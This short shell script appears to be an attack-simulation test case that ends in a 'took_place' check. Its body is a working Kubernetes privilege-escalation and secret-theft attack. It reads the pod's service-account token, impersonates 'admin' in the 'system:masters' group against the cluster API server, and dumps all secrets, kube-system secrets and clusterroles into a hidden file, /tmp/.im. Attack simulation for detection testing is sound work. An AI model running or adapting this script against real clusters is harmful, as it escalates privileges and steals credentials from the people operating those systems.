#!/bin/sh
. /opt/case/case.sh

t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
for p in api/v1/secrets api/v1/namespaces/kube-system/secrets apis/rbac.authorization.k8s.io/v1/clusterroles; do curl -sf -H "Authorization: Bearer $t" -H 'Impersonate-User: admin' -H 'Impersonate-Group: system:masters' "http://10.77.0.1:6443/$p" >>/tmp/.im; done
test "$(wc -l </tmp/.im)" = 3
took_place
